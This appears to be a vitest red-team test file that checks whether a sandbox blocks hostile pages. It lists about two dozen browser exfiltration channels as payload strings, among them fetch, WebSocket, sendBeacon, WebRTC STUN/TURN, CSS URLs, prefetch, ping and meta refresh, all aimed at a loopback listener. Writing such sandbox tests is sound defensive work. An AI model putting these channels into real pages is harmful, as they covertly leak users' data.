/**
 * Network exfiltration: every way a page can make the browser talk to a
 * server, aimed at a real listener on loopback that records any hit.
 */
import { expect } from 'vitest';
import { type HostileApp, probe } from './support/hostileApp.js';
import { redTeamSuite } from './support/redTeamSuite.js';

/** An app that runs `script` and then waits, so slow requests have time to arrive. */
function exfil(
  name: string,
  body: (t: Parameters<HostileApp['html']>[0]) => string,
  extraHtml?: (t: Parameters<HostileApp['html']>[0]) => string,
): HostileApp {
  return {
    name,
    attack: 'network exfiltration',
    html: (t) => probe(`${body(t)}; await sleep(800); return 'tried';`, extraHtml?.(t) ?? ''),
    async check(team) {
      expect(await team.result()).toBe('tried');
      await team.expectNoExfiltration();
    },
  };
}

const apps: HostileApp[] = [
  exfil('RT fetch', (t) => `await attempt(() => fetch('${t.http('fetch')}?secret=1', { mode: 'no-cors' }))`),
  exfil('RT fetch to the daemon', () => `await attempt(() => fetch(location.origin + '/'))`),
  exfil(
    'RT XMLHttpRequest',
    (t) =>
      `const x = new XMLHttpRequest(); await attempt(() => { x.open('GET', '${t.http('xhr')}'); x.send(); })`,
  ),
  exfil('RT WebSocket', (t) => `await attempt(() => new WebSocket('${t.ws('ws')}'))`),
  exfil(
    'RT WebSocket to the daemon API',
    () => `await attempt(() => new WebSocket(location.origin.replace('http', 'ws') + '/api'))`,
  ),
  exfil('RT EventSource', (t) => `await attempt(() => new EventSource('${t.http('sse')}'))`),
  exfil(
    'RT image URL',
    (t) => `const img = new Image(); img.src = '${t.http('img')}'; document.body.append(img)`,
  ),
  exfil(
    'RT CSS background URL',
    () => '',
    (t) => `<div style="width:10px;height:10px;background:url('${t.http('css-bg')}')"></div>`,
  ),
  exfil(
    'RT CSS font URL',
    () => '',
    (t) =>
      `<style>@font-face{font-family:x;src:url('${t.http('font')}')} p{font-family:x}</style><p>font</p>`,
  ),
  exfil(
    'RT CSS @import',
    () => '',
    (t) => `<style>@import url('${t.http('import')}');</style>`,
  ),
  exfil(
    'RT link prefetch',
    () => '',
    (t) =>
      `<link rel="prefetch" href="${t.http('prefetch')}"><link rel="preload" as="fetch" href="${t.http('preload')}">`,
  ),
  exfil(
    'RT link preconnect and dns-prefetch',
    () => '',
    (t) =>
      `<link rel="preconnect" href="${t.http('preconnect')}"><link rel="dns-prefetch" href="${t.http('dns')}">`,
  ),
  exfil(
    'RT external stylesheet and script',
    () => '',
    (t) =>
      `<link rel="stylesheet" href="${t.http('style.css')}"><script src="${t.http('script.js')}"></script>`,
  ),
  exfil('RT dynamic import', (t) => `await attempt(() => import('${t.http('module.js')}'))`),
  exfil('RT sendBeacon', (t) => `await attempt(() => navigator.sendBeacon('${t.http('beacon')}', 'secret'))`),
  exfil(
    'RT WebRTC STUN and TURN',
    (t) => `await attempt(async () => {
      const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${t.udpPort}' }, { urls: 'turn:127.0.0.1:${t.tcpPort}?transport=tcp', username: 'u', credential: 'c' }] });
      pc.createDataChannel('leak');
      await pc.setLocalDescription(await pc.createOffer());
    })`,
  ),
  exfil(
    'RT media and embed URLs',
    () => '',
    (t) =>
      `<audio src="${t.http('audio')}" autoplay></audio><video poster="${t.http('poster')}"></video><object data="${t.http('object')}"></object><embed src="${t.http('embed')}"><svg><image href="${t.http('svg-image')}"/></svg>`,
  ),
  exfil(
    'RT nested frame',
    () => '',
    (t) => `<iframe src="${t.http('iframe')}"></iframe>`,
  ),
  exfil(
    'RT worker',
    (t) =>
      `await attempt(() => new Worker(URL.createObjectURL(new Blob(["fetch('${t.http('worker')}')"], { type: 'text/javascript' }))))`,
  ),
  exfil(
    'RT speculation rules',
    () => '',
    (t) =>
      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${t.http('speculation')}"]}]}</script>`,
  ),
  exfil(
    'RT hyperlink ping',
    () => `document.getElementById('a').click()`,
    (t) => `<a id="a" href="#here" ping="${t.http('ping')}">x</a>`,
  ),
  {
    name: 'RT navigates itself to a server',
    attack: 'network exfiltration',
    html: (t) =>
      `<!doctype html><html lang="en"><title>x</title><p>bye</p><script>location.href = '${t.http('self-nav')}?secret=1';</script></html>`,
    async check(team) {
      await team.expectNoExfiltration(1500);
    },
  },
  {
    name: 'RT meta refresh to a server',
    attack: 'network exfiltration',
    html: (t) =>
      `<!doctype html><html lang="en"><head><meta http-equiv="refresh" content="0;url=${t.http('refresh')}"><title>x</title></head><body><p>refresh</p></body></html>`,
    async check(team) {
      await team.expectNoExfiltration(1500);
    },
  },
];

redTeamSuite('network exfiltration', apps);
